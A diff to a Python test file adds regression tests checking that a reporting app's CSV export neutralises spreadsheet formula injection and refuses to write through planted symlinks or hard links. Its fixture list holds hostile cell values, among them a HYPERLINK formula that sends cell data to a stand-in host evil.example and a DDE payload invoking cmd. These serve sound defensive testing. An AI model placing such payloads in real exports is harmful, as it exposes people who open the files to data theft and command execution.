@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -15,7 +16,7 @@ from click.testing import CliRunner
 from pymongo import MongoClient
 from pymongo.database import Database
 
-from reporting import provenance
+from reporting import export, provenance
 from reporting.app import create_app
 from reporting.compare import fingerprint
 from reporting.history import HISTORY, EventHistory
@@ -28,9 +29,11 @@ from services import config
 from services.audit.verify import from_log, verify
 from services.eventlog.sqlite import SqliteEventLog
 from services.events.families.audit import AUDIT_STREAM_ID, SEAL
+from services.spreadsheet import original
 from tests.audit_streams import grow_sealed
 from tests.auth_helpers import ENV, authorize
 from tests.integration.test_reporting_stream import Desk
+from tests.projected import project
 
 
 @dataclass
@@ -192,3 +195,63 @@ def test_export_writes_the_log_and_the_read_models(sealed, tmp_path) -> None:
     assert [int(h["offset"]) for h in history] == list(range(sealed.events + sealed.seals))
     verified = CliRunner().invoke(sada, ["verify", str(out)])
     assert verified.exit_code == 0, verified.output
+
+
+# -- files auditors open --------------------------------------------------------------------
+FORMULA_TITLES = ['=HYPERLINK("https://evil.example/?d="&A1,"جزئیات")', "@SUM(A1:A9)",
+                  "+98 21 1234", "-1+1", "=cmd|' /C calc'!A0", "'quoted"]
+
+
+@pytest.fixture
+def formulas(tmp_path, mongo_db) -> Sealed:
+    """A city whose citizens typed titles a spreadsheet would run as formulas."""
+    desk = Desk(seed=5)
+    for title in FORMULA_TITLES:
+        desk.submit(district=21, title=title)
+    desk.flush()
+    path = tmp_path / "events.sqlite3"
+    project(desk.events, mongo_db, path)
+    return Sealed(path, mongo_db, len(desk.events), 0)
+
+
+def test_export_writes_no_cell_a_spreadsheet_would_run(formulas, tmp_path) -> None:
+    out = tmp_path / "export"
+    result = CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)])
+    assert result.exit_code == 0, result.output
+    for name in ("demands.csv", "history.csv"):
+        with open(out / name, encoding="utf-8", newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert not live, (name, live)
+    with open(out / "demands.csv", encoding="utf-8", newline="") as f:
+        titles = sorted(original(row["title"]) for row in csv.DictReader(f))
+    assert titles == sorted(FORMULA_TITLES)  # every value reads back exactly
+
+
+def test_export_never_writes_through_a_planted_symlink(formulas, tmp_path) -> None:
+    out, victim = tmp_path / "export", tmp_path / "victim.txt"
+    out.mkdir()
+    victim.write_text("precious\n")
+    (out / "demands.csv").symlink_to(victim)
+    for args in (["export", str(out)], ["export", "--force", str(out)]):
+        result = CliRunner(env=formulas.env()).invoke(sada, args)
+        assert result.exit_code == 1 and "symlink" in result.output, result.output
+        assert victim.read_text() == "precious\n"
+        assert sorted(p.name for p in out.iterdir()) == ["demands.csv"]
+
+
+def test_export_replaces_files_only_when_forced_and_never_through_a_link(formulas,
+                                                                          tmp_path) -> None:
+    out = tmp_path / "export"
+    assert CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)]).exit_code == 0
+    again = CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)])
+    assert again.exit_code == 1 and "not empty" in again.output and "--force" in again.output
+    # A hard link to the export's file: replacing the file must not write into the other name.
+    outside = tmp_path / "outside.csv"
+    os.link(out / "history.csv", outside)
+    before = outside.read_bytes()
+    forced = CliRunner(env=formulas.env()).invoke(sada, ["export", "--force", str(out)])
+    assert forced.exit_code == 0, forced.output
+    assert outside.read_bytes() == before and not os.path.samefile(outside, out / "history.csv")
+    assert sorted(p.name for p in out.iterdir()) == sorted(export.FILES)  # no temporary left
+    assert CliRunner().invoke(sada, ["verify", str(out)]).exit_code == 0
